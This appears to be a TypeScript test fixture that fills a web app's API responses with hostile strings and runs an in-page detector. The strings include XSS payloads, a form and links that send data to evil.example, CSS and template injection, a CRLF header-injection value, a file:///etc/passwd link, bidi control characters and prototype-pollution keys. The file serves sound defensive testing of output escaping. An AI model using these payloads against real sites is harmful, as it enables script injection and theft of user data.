/** Suffix of hostile texts: a view that contains it shows one. */
export const MARK = 'Hostile~';

const RUN = 'parent.pwned=1';
const AWAY = 'http://evil.example';

/** Elements have the class `injected`. */
const MARKUP = [
  `<script class=injected>${RUN}</script>`,
  `<img class=injected src=x onerror=${RUN}>`,
  `"><svg class=injected onload=${RUN}></svg>`,
  `'><iframe class=injected srcdoc="<script>${RUN}</script>"></iframe>`,
  `" autofocus onfocus="${RUN}" class="injected" x="`,
  `</pre></code></td></table></main><h1 class=injected>Sign in</h1>`,
  `</text></svg><foreignObject class=injected><body onload=${RUN}></foreignObject>`,
  `<math class=injected><mtext><option><a href=javascript:${RUN}>x</a></option></mtext></math>`,
  `<form class=injected action=${AWAY}><input name=key><button>Send</button></form>`,
  `<meta class=injected http-equiv=refresh content="0;url=${AWAY}">`,
  `<base class=injected href=${AWAY}/><link class=injected rel=stylesheet href=${AWAY}/a.css>`,
  `<style class=injected>*{display:none;background:url(${AWAY}/a)}</style>`,
  `<object class=injected data=${AWAY}></object><embed class=injected src=${AWAY}>`,
  `<a class=injected ping=${AWAY} href=//evil.example>x</a>`,
  `<template class=injected id=root></template><img class=injected name=body id=cookie>`,
  `&lt;img class=injected src=x onerror=${RUN}&gt;&#x3c;script&#x3e;${RUN}&#x3c;/script&#x3e;`,
  `\\u003cscript class=injected\\u003e${RUN}\\u003c/script\\u003e`,
  `--><!--<![CDATA[<img class=injected src=x onerror=${RUN}>]]>`,
];
const LINKS = [
  `[answer](javascript:${RUN})`,
  `![picture](${AWAY}/p.png)`,
  `<javascript:${RUN}>`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `${AWAY}/?key=1`,
  '//evil.example/x',
  'blob:null/1',
  'file:///etc/passwd',
];
const STYLES = [
  `;background:url(${AWAY}/b);position:fixed;inset:0`,
  `red}*{display:none}`,
  `url(${AWAY}/c)`,
  `@import url(${AWAY}/d.css);`,
  `expression(${RUN})`,
  `\\75 rl(${AWAY}/e)`,
];
const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  '${' + RUN + '}',
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `%7B%7B7*7%7D%7D%0d%0aset-cookie:a=b`,
];

/** Texts of models, of rows and of target databases, by kind. */
export const HOSTILE = {
  'markup, links, styles and templates': [MARKUP.join(' '), ...LINKS, [...STYLES, ...TEMPLATES].join(' ')],
  'characters that reorder, hide or break': [
    '\u202eevil\u202b\u2067\u2066\u202d',
    '\u2067\u202e\u2068',
    '\u061c\u200f\u202e gnp.exe',
    '\u200b\u200d\u2060\ufeff\u{e0041}\u00ad',
    '\u0000\u0007\u001b[2J\u009b31m\r',
    '\ud800',
    '\u2028\u2029',
  ],
  'names of the prototype': ['__proto__', 'constructor', 'toString', 'hasOwnProperty', '__defineGetter__', 'then'],
  'texts without end': ['x'.repeat(20_000), 'a\n'.repeat(1000), `a${'\u0300'.repeat(2000)}`],
} satisfies Record<string, string[]>;
export type Attack = keyof typeof HOSTILE;

const SHAPES = [/^[0-9a-f]{8}-[0-9a-f]{4}-7[0-9a-f]{3}-[0-9a-f]{4}-[0-9a-f]{12}$/, /^\d{4}-\d\d-\d\dT/, /^[A-Z_]+$/];
const SHOWN =
  /^(question|sql|statement|reason(ing)?|text|summary|name|message|detail|evidence|description|examples|title|error|model|comment|definition|term|column|table|schema|referencedTable|label|storyId|parser|promptHash|workspaceName|document|synonyms|note|notDemanded|refusals|quote|value|c\d+)$/;

/** The answer with a hostile text in place of each text that the page shows. */
export function spoiled(json: unknown, attack: Attack): unknown {
  const texts = HOSTILE[attack];
  let count = 0;
  const next = (): string => {
    const text = texts[count++ % texts.length] ?? '';
    // A name of the prototype is one only by itself, and a link only from its begin.
    return attack === 'names of the prototype' && count % 2 === 0 ? text : `${text} ${MARK}`;
  };
  const visit = (value: unknown, key: string): unknown => {
    if (typeof value === 'string')
      return SHOWN.test(key) && !SHAPES.some((shape) => shape.test(value)) ? next() : value;
    if (Array.isArray(value)) return value.map((item) => visit(item, key));
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(
      Object.entries(value).map(([field, item]) => [field, visit(item, field === 'rows' ? 'value' : field)]),
    );
  };
  return visit(json, '');
}

/**
 * Runs in the page; returns what attacks reached. Assay's texts run from left to right: a reversed one means that a
 * hostile text affected its surroundings.
 */
export const FAULTS = `(() => {
  const faults = [];
  if ('pwned' in window) faults.push('a script ran');
  for (const element of document.querySelectorAll('.injected, iframe, object, embed, base, form[action], script:not([src])')) faults.push(element.outerHTML.slice(0, 200));
  for (const element of document.querySelectorAll('[href], [src], [action], [formaction], [*|href]')) {
    for (const { name, value } of element.attributes) {
      if (/^(xlink:)?href$|src|action/.test(name) && !/^(\\/(?!\\/)|#|data:image|blob:)/.test(value) && !value.startsWith(location.origin)) faults.push(name + '=' + value.slice(0, 100));
    }
  }
  for (const element of document.querySelectorAll('*')) for (const { name } of element.attributes) if (/^on/.test(name)) faults.push(name);
  for (const element of document.querySelectorAll('[style]')) if (/evil|url\\(/.test(element.getAttribute('style'))) faults.push('style: ' + element.getAttribute('style').slice(0, 100));
  if (({}).polluted !== undefined || Object.keys(Object.prototype).length > 0) faults.push('a prototype was changed');
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  const range = document.createRange();
  for (let node = walker.nextNode(); node !== null; node = walker.nextNode()) {
    const word = /[A-Za-z]{3,}/.exec(node.data);
    const beside = [...node.parentNode.childNodes].some(({ nodeType, data }) => nodeType === 3 && /~|[^\\x20-\\x7e]/.test(data) && data !== node.data);
    if (word === null || beside || /[^\\x20-\\x7e\\n\\u2010-\\u2027\\u2190-\\u21ff]/.test(node.data)) continue;
    const left = (offset) => (range.setStart(node, offset), range.setEnd(node, offset + 1), range.getBoundingClientRect());
    const [first, last] = [left(word.index), left(word.index + word[0].length - 1)];
    if (first.width > 0 && first.top === last.top && first.left > last.left) faults.push('reversed: ' + node.data.slice(0, 60) + ' in ' + node.parentElement.outerHTML.slice(0, 100));
  }
  return faults;
})()`;
